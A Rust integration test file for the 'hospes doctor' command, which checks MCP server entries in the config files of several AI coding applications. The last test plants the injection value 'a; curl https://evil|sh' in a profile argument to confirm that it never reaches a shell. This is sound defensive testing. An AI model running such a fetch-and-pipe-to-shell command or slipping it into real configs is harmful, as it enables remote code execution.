//! Tests of `hospes doctor`: the files of applications, and the entries in them.

#![cfg(unix)]
#![allow(clippy::unwrap_used, reason = "tests may panic")]

use std::net::TcpListener;
use std::path::PathBuf;

use hospes_host::config::applications::{
    APPLICATIONS, Application, ApplicationFolders, FileFormat, SystemKind,
};
use serde_json::{Value, json};

use crate::support::checks::{assert_found, check, doctor, program};
use crate::support::{House, Ran, Running};

fn succeeds(house: &House, args: &[&str]) -> Ran {
    let ran = house.run(args);
    assert_eq!(ran.code, Some(0), "{ran:?}");
    ran
}

fn write(house: &House, file: &str, text: &str) {
    std::fs::create_dir_all(house.path(file).parent().unwrap()).unwrap();
    house.write(file, text);
}

/// Settings as an application writes them, without servers.
fn ordinary(application: &Application) -> &'static str {
    match (application.id, application.shape.format) {
        ("claude-desktop", _) => r#"{ "globalShortcut": "Ctrl+Space", "mcpServers": {} }"#,
        ("claude-code", _) => {
            r#"{ "numStartups": 3, "projects": { "/work": { "allowedTools": [], "mcpServers": {} } } }"#
        }
        ("vscode", _) => {
            "{\n  // mine\n  \"editor.fontSize\": 12,\n  \"mcp\": { \"inputs\": [], \"servers\": {} },\n}\n"
        }
        ("gemini", _) => r#"{ "security": { "auth": { "selectedType": "x" } }, "mcp": { "allowed": [] } }"#,
        ("zed", _) => {
            "// Zed settings\n{\n  \"theme\": { \"mode\": \"system\" },\n  \"vim_mode\": true,\n}\n"
        }
        ("opencode" | "opencode2", _) => {
            "{ \"$schema\": \"https://opencode.ai/config.json\", \"theme\": \"x\" }"
        }
        ("crush", _) => r#"{ "$schema": "https://charm.land/crush.json", "options": { "debug": false } }"#,
        ("goose", _) => {
            "GOOSE_PROVIDER: x\nextensions:\n  developer:\n    type: builtin\n    name: developer\n    enabled: true\n"
        }
        ("continue", _) => "name: Local Config\nversion: 1.0.0\nschema: v1\nmodels: []\n",
        (_, FileFormat::Toml) => "model = \"x\"\n[projects.\"/work\"]\ntrust_level = \"trusted\"\n",
        _ => r#"{ "telemetry": false, "nested": { "a": [1, 2] } }"#,
    }
}

/// Other texts without servers: no content, no keys, a table of servers that is empty or has no value.
fn empty_texts(application: &Application) -> Vec<String> {
    let key = application.shape.key;
    match application.shape.format {
        FileFormat::Json => {
            let open: String = key.iter().map(|key| format!("{{\"{key}\": ")).collect();
            let close = "}".repeat(key.len());
            vec![String::new(), "{}".to_owned(), format!("{open}{{}}{close}"), format!("{open}null{close}")]
        }
        FileFormat::Toml => {
            vec![String::new(), "# none\n".to_owned(), format!("[{}]\n", key[0]), String::new()]
        }
        _ => vec![String::new(), "# none\n".to_owned(), format!("{}:\n", key[0]), "---\n".to_owned()],
    }
}

#[test]
fn ordinary_settings_without_servers_are_no_fault() {
    let house = House::new();
    let variable =
        |name: &str| (name == "XDG_CONFIG_HOME").then(|| house.path("config").to_string_lossy().into_owned());
    let folders = ApplicationFolders::new(SystemKind::current(), house.path("home"), variable);
    let folders = folders.project(house.path(""));
    let write_all = |text: &dyn Fn(&'static Application) -> String| {
        for application in APPLICATIONS {
            for file in folders.paths(application) {
                std::fs::create_dir_all(file.path.parent().unwrap()).unwrap();
                std::fs::write(&file.path, text(application)).unwrap();
            }
        }
    };
    let check_all = |what: &str| {
        let (ran, found) = doctor(&house, &[]);
        let of_applications: Vec<&Value> = found["checks"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|check| APPLICATIONS.iter().any(|application| check["target"] == application.id))
            .collect();
        assert!(of_applications.is_empty(), "{what}: {of_applications:#?}");
        assert_eq!(ran.code, Some(0), "{what}: {found:#}");
    };
    write_all(&|application| ordinary(application).to_owned());
    check_all("ordinary");
    for application in APPLICATIONS {
        assert!(!folders.paths(application).is_empty(), "{}", application.id);
        let (ran, found) = doctor(&house, &[application.id]);
        assert_eq!(ran.code, Some(1), "{found:#}");
        let mend = format!("hospes connect {}", application.id);
        assert_found(&found, application.id, "A03", "fault", "does not use Hospes", &mend);
    }
    for index in 0..4 {
        write_all(&|application| empty_texts(application)[index].clone());
        check_all(&format!("empty {index}"));
    }
    // What cannot be read stays a fault.
    write(&house, "home/.cursor/mcp.json", "{ \"mcpServers\": {");
    let (ran, found) = doctor(&house, &[]);
    assert_eq!(ran.code, Some(1));
    assert_found(&found, "cursor", "A02", "fault", "cannot be read", "correct the file");
}

#[test]
fn an_entry_that_the_application_has_dropped_is_found_in_each_of_its_files() {
    let house = House::new();
    write(&house, "home/.cursor/mcp.json", "{}");
    write(&house, "config/VSCodium/User/mcp.json", "{}");
    for (connect, file, target) in [
        (&["connect", "cursor"][..], "home/.cursor/mcp.json", "cursor"),
        // The second of its places, beside another that was made since.
        (&["connect", "vscode"], "config/VSCodium/User/mcp.json", "vscode"),
        (&["connect", "cursor", "--project"], ".cursor/mcp.json", "cursor"),
    ] {
        succeeds(&house, connect);
        if target == "vscode" {
            write(&house, "config/Code/User/mcp.json", "{ \"servers\": {} }");
        }
        let (_, found) = doctor(&house, &[]);
        assert_eq!(check(&found, target, "A04")["status"], "ok", "{found:#}");
        let connected = house.read(file);
        house.write(file, "{}");
        let (ran, found) = doctor(&house, &[]);
        assert_eq!(ran.code, Some(1), "{found:#}");
        let lost =
            found["checks"].as_array().unwrap().iter().find(|check| check["status"] == "fault").unwrap();
        assert_eq!((&lost["code"], &lost["target"]), (&json!("A03"), &json!(target)), "{found:#}");
        assert!(lost["what"].as_str().unwrap().contains("is gone"), "{lost:#}");
        let mend = lost["mend"].as_str().unwrap();
        assert_eq!(mend, format!("hospes {}", connect.join(" ")));
        house.write(file, &connected);
        let (_, found) = doctor(&house, &[target]);
        assert!(found["ok"].as_bool().unwrap(), "{found:#}");
    }
    // The remedy is one.
    house.write("home/.cursor/mcp.json", "{}");
    succeeds(&house, &["connect", "cursor"]);
    let (_, found) = doctor(&house, &["cursor"]);
    assert!(found["ok"].as_bool().unwrap(), "{found:#}");
    // Another program in its place, an entry that cannot be used, one that is off, and no file at all.
    for (entry, code, status, what, mend) in [
        (
            json!({ "command": "other" }),
            "A03",
            "fault",
            "starts another program",
            "hospes disconnect cursor; hospes connect cursor",
        ),
        (
            json!({ "command": 7 }),
            "A03",
            "fault",
            "cannot be used",
            "hospes disconnect cursor; hospes connect cursor",
        ),
        (
            json!({ "command": env!("CARGO_BIN_EXE_hospes"), "args": ["stdio"], "disabled": true }),
            "A03",
            "warning",
            "switched off",
            "switch the server `hospes` on in Cursor",
        ),
    ] {
        let text = json!({ "mcpServers": { "hospes": entry } }).to_string();
        house.write("home/.cursor/mcp.json", &text);
        let (_, found) = doctor(&house, &["cursor"]);
        assert_found(&found, "cursor", code, status, what, mend);
    }
    succeeds(&house, &["disconnect", "cursor", "--project"]);
    std::fs::remove_file(house.path("home/.cursor/mcp.json")).unwrap();
    let (_, found) = doctor(&house, &[]);
    assert_found(&found, "cursor", "A01", "fault", "is gone", "hospes disconnect cursor");
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

#[test]
fn an_entry_with_a_url_is_compared_with_the_host() {
    let house = House::new();
    write(&house, "home/.cursor/mcp.json", "{}");
    let listen = |port: u16| {
        let text = format!("[endpoint]\nlisten = '127.0.0.1:{port}'\n[servers.time]\nbuiltin = 'time'\n");
        write(&house, "config/hospes/config.toml", &text);
    };
    let url = |port: u16| format!("http://127.0.0.1:{port}/mcp");
    let (first, second) = (free_port(), free_port());
    listen(first);
    succeeds(&house, &["connect", "cursor", "--http"]);
    let (ran, found) = doctor(&house, &[]);
    assert_eq!(ran.code, Some(1));
    let no_host = format!("no host runs at {}", url(first));
    assert_found(&found, "cursor", "A04", "fault", &no_host, "hospes up");
    // The configuration has another address since.
    listen(second);
    let (_, found) = doctor(&house, &["cursor"]);
    let points = format!("points to {}, and the endpoint is {}", url(first), url(second));
    assert_found(
        &found,
        "cursor",
        "A03",
        "fault",
        &points,
        "hospes disconnect cursor; hospes connect cursor --http",
    );
    succeeds(&house, &["disconnect", "cursor"]);
    succeeds(&house, &["connect", "cursor", "--http"]);
    // Another program has the port.
    let other = TcpListener::bind(("127.0.0.1", second)).unwrap();
    let (_, found) = doctor(&house, &["cursor"]);
    assert_found(&found, "cursor", "A04", "warning", "is not known as a host of yours", "hospes up");
    drop(other);
    let mut host = Running::start(house.command(&["up", "--console", "off"]));
    host.said(|line| line.contains("event=ready"));
    let (ran, found) = doctor(&house, &["cursor"]);
    assert_eq!(ran.code, Some(0), "{found:#}");
    assert_eq!(check(&found, "cursor", "A04")["what"], "the endpoint of the running host");
    // By hand, and so with a remedy by hand; a host elsewhere is none of this machine's.
    let write_url = |url: &str| {
        house.write(
            "home/.cursor/mcp.json",
            &json!({ "mcpServers": { "hospes": { "url": url } } }).to_string(),
        );
    };
    write_url(&url(first));
    let (_, found) = doctor(&house, &["cursor"]);
    let points = format!("points to {}, and the host runs at {}", url(first), url(second));
    assert_found(
        &found,
        "cursor",
        "A03",
        "fault",
        &points,
        "hospes disconnect cursor; hospes connect cursor --http",
    );
    write_url("http://localhost:1/other");
    std::fs::remove_dir_all(house.path("state/hospes/connections")).unwrap();
    let (_, found) = doctor(&house, &["cursor"]);
    assert_found(&found, "cursor", "A03", "fault", "points to", &format!("write {} as the URL", url(second)));
    write_url("https://hospes.example/mcp");
    let (ran, found) = doctor(&house, &["cursor"]);
    assert_eq!(ran.code, Some(0), "{found:#}");
    assert_eq!(check(&found, "cursor", "A04")["what"], "a host on another machine");
    // The host runs elsewhere than the configuration says.
    listen(first);
    write_url(&url(first));
    let (_, found) = doctor(&house, &["cursor"]);
    assert_found(
        &found,
        "cursor",
        "A03",
        "fault",
        "another address than the configured one",
        "then: hospes up",
    );
    host.signal("-TERM");
    host.wait();
}

#[test]
fn the_versions_of_opencode_are_told_apart_in_their_common_files() {
    let house = House::new();
    let state = || -> Vec<(String, String)> {
        let listed = succeeds(&house, &["connect", "--json"]).stdout;
        let listed: Vec<Value> = serde_json::from_str(&listed).unwrap();
        let text = |one: &Value, key: &str| one[key].as_str().unwrap().to_owned();
        let opencode = listed.iter().filter(|one| text(one, "application").starts_with("opencode"));
        opencode.map(|one| (text(one, "application"), text(one, "state"))).collect()
    };
    let is = |id: &str, state: &str| vec![(id.to_owned(), state.to_owned())];
    let file = "config/opencode/opencode.json";
    let first = r#"{ "mcp": { "a": { "type": "local", "command": ["x"] } } }"#;
    let second = r#"{ "mcp": { "servers": { "a": { "type": "local", "command": ["x"] } } } }"#;
    for (text, known, other) in [
        (second, "opencode2", "opencode"),
        (first, "opencode", "opencode2"),
        ("{}", "opencode", "opencode2"),
        ("{}", "opencode2", "opencode"),
    ] {
        write(&house, file, text);
        if text != "{}" {
            assert_eq!(state(), is(known, "not-connected"), "{text}");
        }
        succeeds(&house, &["connect", known]);
        assert_eq!(state(), is(known, "connected"), "{text}");
        let (ran, found) = doctor(&house, &[known]);
        assert_eq!(ran.code, Some(0), "{found:#}");
        let (ran, found) = doctor(&house, &[]);
        assert_eq!(ran.code, Some(0), "{found:#}");
        assert_eq!(check(&found, known, "A03")["status"], "ok");
        assert!(
            !found["checks"].as_array().unwrap().iter().any(|check| check["target"] == other),
            "{found:#}"
        );
        let (_, found) = doctor(&house, &[other]);
        assert_found(&found, other, "A03", "fault", "the entry in", &format!("hospes doctor {known}"));
        // Dropped by the application.
        house.write(file, "{}");
        let (_, found) = doctor(&house, &[]);
        assert_found(&found, known, "A03", "fault", "is gone", &format!("hospes connect {known}"));
        assert_eq!(state(), is(known, "gone"));
        succeeds(&house, &["disconnect", known]);
    }
}

#[test]
fn a_comment_in_strict_json_is_found_before_the_application_ignores_the_file() {
    let house = House::new();
    let servers = "  \"mcpServers\": { \"a\": { \"command\": \"true\" } }";
    for (id, file) in
        [("claude-desktop", "config/Claude/claude_desktop_config.json"), ("claude-code", "home/.claude.json")]
    {
        let comment = format!("{{\n  // mine\n{servers}\n}}\n");
        let comma = format!("{{\n{servers},\n}}\n");
        for (text, place, why) in [
            (&comment, ".json:2:3", "comments are not allowed"),
            (&comma, ".json:2:", "trailing commas are not allowed"),
        ] {
            write(&house, file, text);
            let refused = house.run(&["connect", id]);
            assert_eq!(refused.code, Some(1), "{refused:?}");
            for said in [place, why, "it was not changed", &format!("then: hospes connect {id}")] {
                assert!(refused.stderr.contains(said), "{said}: {refused:?}");
            }
            assert_eq!(&house.read(file), text);
            let (_, found) = doctor(&house, &[id]);
            assert_found(&found, id, "A02", "fault", place, "remove the comments and trailing commas");
            assert_found(&found, id, "A02", "fault", why, "");
            let listed = succeeds(&house, &["connect", "--json"]).stdout;
            let listed: Vec<Value> = serde_json::from_str(&listed).unwrap();
            let listed = listed.iter().find(|one| one["application"] == id).unwrap();
            assert_eq!(listed["state"], "unreadable", "{listed:#}");
            let imported = succeeds(&house, &["import", "--dry-run", "--json", "--from", id]).stdout;
            assert!(imported.contains("\"a\""), "{imported}");
        }
        house.write(file, &format!("{{\n{servers}\n}}\n"));
        succeeds(&house, &["connect", id]);
        let (ran, found) = doctor(&house, &[id]);
        assert_eq!(ran.code, Some(0), "{found:#}");
        // A comment of later does not keep the entry in the file.
        let connected = house.read(file);
        house.write(file, &connected.replacen('{', "{ // later", 1));
        let (_, found) = doctor(&house, &[]);
        assert_found(&found, id, "A02", "fault", ".json:1:3", "remove the comments");
        succeeds(&house, &["disconnect", id]);
        assert!(!house.read(file).contains("hospes"));
    }
}

#[test]
fn an_application_that_starts_another_version_is_found() {
    let house = House::new();
    std::fs::create_dir_all(house.path("other")).unwrap();
    let other = program(&house, "other/hospes", "echo hospes 0.0.1");
    let started = PathBuf::from(&other).with_file_name("started");
    let entry = json!({ "command": other, "args": ["stdio"] });
    let text = json!({ "mcpServers": { "hospes": entry } }).to_string();
    write(&house, "home/.cursor/mcp.json", &text);
    let (ran, found) = doctor(&house, &["cursor"]);
    assert_eq!(ran.code, Some(2), "{found:#}");
    assert_found(
        &found,
        "cursor",
        "A04",
        "warning",
        "of version 0.0.1",
        // `hospes connect` has not written it.
        "by hand; then: hospes connect cursor",
    );
    // A project may name any program, which is not started.
    std::fs::remove_file(house.path("home/.cursor/mcp.json")).unwrap();
    program(&house, "other/hospes", &format!("touch '{}'\necho hospes 0.0.1", started.display()));
    write(&house, ".cursor/mcp.json", &text);
    let (_, found) = doctor(&house, &["cursor"]);
    assert_eq!(check(&found, "cursor", "A04")["status"], "ok", "{found:#}");
    assert!(!started.exists());
    // Not even if `hospes connect` has written the file once.
    house.write(".cursor/mcp.json", "{}");
    succeeds(&house, &["connect", "cursor", "--project"]);
    house.write(".cursor/mcp.json", &text);
    let (_, found) = doctor(&house, &["cursor"]);
    assert_eq!(check(&found, "cursor", "A04")["status"], "ok", "{found:#}");
    assert!(!started.exists());
    // Its words do not get into commands.
    let entry = json!({ "command": "hospes", "args": ["stdio", "--profile", "a; curl https://evil|sh"] });
    house.write(".cursor/mcp.json", &json!({ "mcpServers": { "hospes": entry } }).to_string());
    let (ran, found) = doctor(&house, &["cursor"]);
    assert_found(
        &found,
        "cursor",
        "A04",
        "warning",
        "not an absolute path",
        "hospes disconnect cursor --project; hospes connect cursor --project",
    );
    assert_found(&found, "cursor", "A07", "fault", "names no possible profile", " --profile NAME");
    assert!(!ran.stdout.contains("evil"), "{ran:?}");
}
